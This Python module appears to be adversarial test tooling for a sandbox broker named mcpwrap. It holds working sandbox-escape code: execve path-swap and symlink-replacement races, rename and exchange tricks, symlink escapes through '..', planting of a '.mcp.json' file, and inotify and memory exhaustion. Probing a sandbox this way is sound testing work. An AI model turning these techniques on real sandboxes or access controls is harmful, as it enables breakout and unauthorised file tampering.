"""Acts of an attacker who has read mcpwrap: each lives between two of its checks."""

import ctypes
import glob
import mmap
import os
import signal
import subprocess
import sys
import threading
import time

from acts_kernel import NR

LIBC = ctypes.CDLL(None, use_errno=True)
FLAG = 4000
"""Where in the shared page the path is being executed."""
PADDING = [b"y" * 120_000] * 12
"""Arguments the kernel copies after it has read the path and before it replaces the image: a millisecond."""


def loader():
    return next(iter(glob.glob("/lib64/ld-linux-*.so.*") + glob.glob("/lib/ld-linux-*.so.*")))


def execute_swapped(granted, target, argv, marker, rounds=40, busy=False, padded=False):
    """Execute `granted`, and change one byte of the path after the broker has read it: it names `target` then.

    With `busy` the main thread of the executing process keeps the broker answering it meanwhile.
    """
    directory = f"{os.environ.get('TMPDIR', '/tmp')}/swap{os.getpid()}{time.monotonic_ns()}"
    os.mkdir(directory)
    os.symlink(granted, f"{directory}/p")
    os.symlink(target, f"{directory}/q")
    path = f"{directory}/p"
    words = [word.replace("{path}", path).encode() for word in argv] + (PADDING if padded else [])
    seen = []
    for attempt in range(rounds):
        said = _race(path, words, 40e-6 + attempt % 20 * 20e-6, busy)
        if marker in said:
            return said
        seen.append(said[:60])
    raise OSError(13, f"never: {set(seen)}")


def _race(path, words, delay, busy):
    shared = mmap.mmap(-1, 4096)
    shared[: len(path)] = path.encode()
    spot = len(path) - 1
    argv = (ctypes.c_char_p * (len(words) + 1))(*words, None)
    address = ctypes.addressof(ctypes.c_char.from_buffer(shared))
    reader, writer = os.pipe()
    child = os.fork()
    if not child:
        try:
            os.dup2(writer, 1)
            os.dup2(writer, 2)
            os.close(writer)
            os.close(reader)
            if not os.fork():
                _flip(shared, spot, delay)
            worker = threading.Thread(target=_execute, args=(shared, address, argv, spot))
            worker.start()
            while busy and worker.is_alive():
                os.close(os.open("/dev/null", os.O_RDONLY))
            worker.join()
        finally:
            os._exit(1)
    os.close(writer)
    said = b""
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and (data := os.read(reader, 65536)):
        said += data
    os.close(reader)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    return said.decode("utf-8", "replace")


def _execute(shared, address, argv, spot):
    environ = (ctypes.c_char_p * 1)(None)
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))  # this thread: the broker shall go on first
    for _ in range(30):
        shared[spot] = ord("p")
        shared[FLAG] = 1
        LIBC.execve(ctypes.c_void_p(address), argv, environ)
        shared[FLAG] = 0
        time.sleep(0.001)


def _flip(shared, spot, delay):
    """In a process of its own, so that no interpreter lock is in the way; it ends with its parent."""
    LIBC.prctl(1, 9, 0, 0, 0)
    for fd in (1, 2):
        os.close(fd)
    while os.getppid() != 1:
        while not shared[FLAG]:
            if os.getppid() == 1:
                os._exit(0)
        until = time.perf_counter() + delay
        while time.perf_counter() < until:
            pass
        shared[spot] = ord("q")
        while shared[FLAG] and os.getppid() != 1:
            time.sleep(0.0005)
        delay = delay * 1.15 % 900e-6
    os._exit(0)


def execute_by_swapped_loader(marker):
    return execute_swapped(
        sys.executable, loader(), ["ld.so", "/usr/bin/id", "--version"], marker, busy=True, padded=True
    )


def execute_by_swapped_script(script, interpreter, marker):
    return execute_swapped(script, interpreter, ["x", "-c", f"echo {marker}", "{path}"], marker)


def execute_replaced_script(script, interpreter, marker, rounds=60):
    """Execute a link to `script`, and let the link lead to another one before the interpreter opens it."""
    directory = f"{os.environ.get('TMPDIR', '/tmp')}/replace{time.monotonic_ns()}"
    os.mkdir(directory)
    with open(f"{directory}/own", "w") as file:
        file.write(f"#!{interpreter}\necho {marker}\n")
    said = ""
    for attempt in range(rounds):
        for target, name in ((script, "s"), (f"{directory}/own", "next")):
            os.symlink(target, f"{directory}/{name}{attempt}")
        with subprocess.Popen(
            [f"{directory}/s{attempt}"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT
        ) as child:
            time.sleep(attempt % 20 * 0.0002)
            os.rename(f"{directory}/next{attempt}", f"{directory}/s{attempt}")
            said = child.communicate(timeout=20)[0].decode()
        if marker in said:
            return said
    raise OSError(13, f"never: {said}")


def execute_at(directory, name):
    """Execute a file by its name in a directory held by a descriptor."""
    fd = os.open(directory, os.O_PATH)
    reader, writer = os.pipe()
    child = os.fork()
    if not child:
        os.dup2(writer, 1)
        os.set_inheritable(fd, True)
        argv = (ctypes.c_char_p * 2)(b"x", None)
        LIBC.syscall(NR["execveat"], fd, name.encode(), argv, (ctypes.c_char_p * 1)(None), 0)
        os._exit(ctypes.get_errno())
    os.close(writer)
    said = os.read(reader, 4096).decode()
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status:
        raise OSError(status, os.strerror(status))
    return said


def close_to_all(path):
    os.chmod(path, 0)
    return "closed"


def carry_away(directory, place, name):
    """Rename a directory of the private home that holds a mount, and use that under its new path."""
    os.rename(directory, place)
    with open(f"{place}/{name}") as file:
        said = file.read()
    with open(f"{place}/{os.path.dirname(name)}/.mcp.json", "w") as file:
        file.write("planted")
    return said


def be_born_again(directory, names):
    """Put an existing directory where one was made a moment ago, so that it passes for new."""
    aside = directory + ".aside"
    os.rename(directory, aside)
    os.mkdir(directory)
    os.rename(aside, directory)
    for name in names:
        path = f"{directory}/{name}"
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write("planted")
    return "planted"


def move_into_born(directory, new, name):
    """Move an existing directory onto an empty one made in this call, and leave a link in its place."""
    os.mkdir(new)
    os.rename(directory, new)
    os.symlink(os.path.basename(new), directory)
    with open(f"{new}/{name}", "w") as file:
        file.write("planted")
    return "planted"


def link_then_move(directory, text, name):
    """Make a link deep enough for its text to stay inside, and move it up to where it does not."""
    os.makedirs(f"{directory}/one/two", exist_ok=True)
    os.symlink(text, f"{directory}/one/two/{name}")
    os.rename(f"{directory}/one/two/{name}", f"{directory}/{name}")
    return os.readlink(f"{directory}/{name}")


def link_by_link(directory, name, target):
    """Make a link whose text stays inside as text, and leaves by the `..` after another link."""
    os.makedirs(f"{directory}/one/two", exist_ok=True)
    os.symlink("../..", f"{directory}/one/two/up")
    os.symlink(f"one/two/up/../{target}", f"{directory}/{name}")
    return os.path.realpath(f"{directory}/{name}")


def hold_shared_memory(size, seconds):
    """Hold anonymous memory that is mapped shared: no descriptor stands for it."""
    held = mmap.mmap(-1, size)
    for at in range(0, size, 4096):
        held[at] = 1
    time.sleep(seconds)
    return f"held {len(held)} bytes"


def refuse_many(directory, first, count):
    """Meet `count` refusals, each of another long path."""
    tail = "/".join(["z" * 250] * 15)
    refused = 0
    for number in range(first, first + count):
        try:
            os.symlink(f"/srv/{number}/{tail}", f"{directory}/never")
        except OSError:
            refused += 1
    return str(refused)


def hold_inotify(seconds):
    count = 0
    while LIBC.inotify_init1(0) >= 0:
        count += 1
    time.sleep(seconds)
    return str(count)


def truncate_negative(path):
    if LIBC.truncate(path.encode(), ctypes.c_long(-1)):
        raise OSError(ctypes.get_errno(), "truncate")
    return "truncated"


def chown_to_nobody(path):
    """chown to 4294967294, which NFS calls nobody."""
    if LIBC.chown(path.encode(), ctypes.c_uint(0xFFFFFFFE), ctypes.c_uint(0xFFFFFFFE)):
        raise OSError(ctypes.get_errno(), "chown")
    return "given away"


def rename_deep(directory, depth):
    os.mkdir(f"{directory}/deep")
    os.chdir(f"{directory}/deep")
    for _ in range(depth):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/")
    os.rename(f"{directory}/deep", f"{directory}/deeper")
    return "renamed"


def displace(kind, directory, name, exchange):
    """Put something of another kind in the place of `name`, by rename or exchange."""
    other = f"{directory}/other-{kind}-{exchange}"
    if kind == "directory":
        os.mkdir(other)
    elif kind == "link":
        os.symlink("a", other)
    else:
        os.mkfifo(other)
    path = f"{directory}/{name}"
    _renameat2(other, path, 2 if exchange else 0)
    return "displaced"


def _renameat2(old, new, flags):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.renameat2(-100, os.fsencode(old), -100, os.fsencode(new), flags):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), new)
